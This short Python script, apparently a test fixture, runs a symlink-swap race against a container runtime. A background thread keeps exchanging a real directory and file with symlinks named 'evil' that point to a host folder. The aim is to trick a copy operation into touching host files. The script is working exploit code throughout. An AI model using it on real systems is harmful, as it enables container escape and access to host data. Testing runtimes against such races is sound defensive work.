import threading
host = os.environ['HOST_FOLDER']
os.makedirs('dir/folder'); open('dir/secret', 'w').write('inside'); open('dir/folder/secret', 'w').write('inside')
os.symlink(host, 'evil')
open('file', 'w').write('inside'); os.symlink(host + '/secret', 'evil-file')
flips = 0
def exchange(a, b):
    if libc.syscall(316, -100, a, -100, b, 2) == 0: return
    # A kernel without RENAME_EXCHANGE: in three steps, beside those who write new ones into the gap.
    for old, new in ((a, a + b'-away'), (b, a), (a + b'-away', b)):
        try: os.rename(old, new)
        except OSError: pass
def flip():
    global flips
    while True:
        exchange(b'dir', b'evil'); exchange(b'file', b'evil-file'); flips += 1
threading.Thread(target=flip, daemon=True).start()
def report():
    while True: open('flips', 'w').write(str(flips)); time.sleep(0.05)
threading.Thread(target=report, daemon=True).start()
while flips < 100: time.sleep(0.001)
